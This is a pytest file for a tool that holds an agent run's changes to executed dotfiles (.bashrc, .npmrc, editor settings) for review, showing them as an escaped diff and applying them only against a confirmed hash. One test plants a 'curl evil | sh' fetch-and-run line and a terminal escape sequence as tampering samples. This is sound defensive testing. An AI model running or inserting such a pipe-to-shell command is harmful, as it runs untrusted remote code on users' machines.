"""A run's held changes (files editors, shells and package managers execute, put
back at the end of the run) are reviewed as a change set and applied exactly as
shown: `warden held` lists them, shows the escaped diff, applies on a yes bound to
the change set's hash (`--hash` without a terminal), refuses when anything moved
since, discards, and records each decision in the audit."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from click.testing import CliRunner

from orchestrator.apply.changeset import ApplyDecision, ChangeSet
from orchestrator.apply.held import (
    HeldChangedError,
    NoHeldChangesError,
    apply_held,
    discard_held,
    review,
    waiting,
)
from orchestrator.apply.render import render_change_set
from orchestrator.workspace.held_changes import load_manifest
from orchestrator.workspace.report import ExecutedPathsWatch

RUN = "run-held1"


class Audit:
    def __init__(self) -> None:
        self.records: list[tuple[ChangeSet, ApplyDecision]] = []

    def __call__(self, change_set: ChangeSet, decision: ApplyDecision) -> None:
        self.records.append((change_set, decision))


def _held_run(tmp_path: Path) -> tuple[Path, Path]:
    """A workspace whose run changed `.vscode/settings.json`, planted `.bashrc`
    (with an escape sequence) and removed `.npmrc`: all three held."""
    ws = tmp_path / "ws"
    (ws / ".vscode").mkdir(parents=True)
    (ws / ".vscode" / "settings.json").write_text('{"editor.tabSize": 4}\n')
    (ws / ".npmrc").write_text("registry=https://registry.npmjs.org/\n")
    state = tmp_path / "state"
    watch = ExecutedPathsWatch(ws, held_dir=state / "runs" / RUN / "held")
    (ws / ".vscode" / "settings.json").write_text('{"editor.tabSize": 2}\n')
    (ws / ".bashrc").write_text("alias ls='ls --color'\x1b[2J\n")
    (ws / ".npmrc").unlink()
    report = watch.report()
    assert len(report.held) == 3
    assert f"warden held {RUN}" in "\n".join(report.render())
    return ws, state


def test_held_changes_are_listed_and_shown_as_an_escaped_diff(tmp_path: Path) -> None:
    ws, state = _held_run(tmp_path)
    [manifest] = waiting(state)
    assert manifest.run_id == RUN and manifest.workspace == str(ws)

    found = review(state, RUN)
    kinds = {c.path: c.kind for c in found.change_set.changes}
    assert kinds == {".bashrc": "added", ".npmrc": "removed", ".vscode/settings.json": "modified"}
    text = render_change_set(found.change_set, found.store).text()
    assert found.change_set.sha256 in text
    assert '-{"editor.tabSize": 4}' in text and '+{"editor.tabSize": 2}' in text
    assert "\x1b" not in text and "\\x1b[2J" in text, "the escape is shown, not sent"


def test_apply_writes_exactly_what_was_shown_and_records_it(tmp_path: Path) -> None:
    ws, state = _held_run(tmp_path)
    sha = review(state, RUN).change_set.sha256
    audit = Audit()

    decision = apply_held(state, RUN, sha, "cli:me", audit)

    assert decision.outcome == "applied"
    assert set(decision.applied) == {".bashrc", ".npmrc", ".vscode/settings.json"}
    assert (ws / ".vscode" / "settings.json").read_text() == '{"editor.tabSize": 2}\n'
    assert (ws / ".vscode" / "settings.json").stat().st_mode & 0o777 == 0o644
    assert (ws / ".bashrc").read_text() == "alias ls='ls --color'\x1b[2J\n"
    assert not (ws / ".npmrc").exists()
    [(change_set, recorded)] = audit.records
    assert change_set.sha256 == sha and recorded.decided_by == "cli:me"
    manifest = load_manifest(state / "runs" / RUN / "held")
    assert manifest is not None and manifest.outcome == "applied" and manifest.sha256 == sha
    assert waiting(state) == []
    with pytest.raises(NoHeldChangesError):
        review(state, RUN)


@pytest.mark.parametrize("moved", ["workspace", "held version"])
def test_nothing_is_written_when_anything_moved_since_the_review(
    tmp_path: Path, moved: str
) -> None:
    ws, state = _held_run(tmp_path)
    sha = review(state, RUN).change_set.sha256
    if moved == "workspace":
        (ws / ".vscode" / "settings.json").write_text('{"editor.tabSize": 8}\n')
    else:
        (state / "runs" / RUN / "held" / ".bashrc").write_text("curl evil | sh\n")

    with pytest.raises(HeldChangedError, match="nothing was written"):
        apply_held(state, RUN, sha, "cli:me", Audit())

    assert not (ws / ".bashrc").exists()
    assert (ws / ".npmrc").exists()
    assert [m.run_id for m in waiting(state)] == [RUN]


def test_a_link_swapped_in_under_the_apply_is_not_written_through(tmp_path: Path) -> None:
    ws, state = _held_run(tmp_path)
    sha = review(state, RUN).change_set.sha256
    outside = tmp_path / "outside"
    outside.mkdir()
    (ws / ".vscode" / "settings.json").unlink()
    (ws / ".vscode").rmdir()
    os.symlink(outside, ws / ".vscode")
    with pytest.raises(HeldChangedError):
        apply_held(state, RUN, sha, "cli:me", Audit())
    assert list(outside.iterdir()) == []


def test_discard_keeps_the_workspace_and_settles_the_record(tmp_path: Path) -> None:
    ws, state = _held_run(tmp_path)
    audit = Audit()
    assert discard_held(state, RUN, "cli:me", audit) == 3
    assert not (ws / ".bashrc").exists()
    assert audit.records[0][1].outcome == "rejected_by_person"
    assert waiting(state) == []


def test_the_command_applies_only_with_a_yes_or_the_shown_hash(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from orchestrator.commands.held import held
    from orchestrator.store import DB_FILENAME, Store

    ws, state = _held_run(tmp_path)
    monkeypatch.setenv("WARDEN_STATE_DIR", str(state))
    with Store.open(state / DB_FILENAME) as store:
        store.create_run(RUN, prompt="p", workspace=str(ws), model="m", pid=os.getpid())
    runner = CliRunner()

    listed = runner.invoke(held, [])
    assert listed.exit_code == 0 and RUN in listed.output and ".bashrc" in listed.output
    shown = runner.invoke(held, [RUN])
    sha = review(state, RUN).change_set.sha256
    assert shown.exit_code == 0 and sha in shown.output and "\x1b" not in shown.output

    no_tty = runner.invoke(held, [RUN, "--apply"])
    assert no_tty.exit_code != 0 and "--hash" in no_tty.output
    wrong = runner.invoke(held, [RUN, "--apply", "--hash", "0" * 64])
    assert wrong.exit_code == 1 and not (ws / ".bashrc").exists()

    applied = runner.invoke(held, [RUN, "--apply", "--hash", sha])
    assert applied.exit_code == 0, applied.output
    assert (ws / ".bashrc").exists() and "applied 3 path(s)" in applied.output
    with Store.open(state / DB_FILENAME) as store:
        [record] = [r for r in store.audit(RUN) if r.tool_name == "Apply"]
    assert record.input_hash == sha and record.final == "allow"
    assert runner.invoke(held, [RUN, "--apply", "--hash", sha]).exit_code == 1
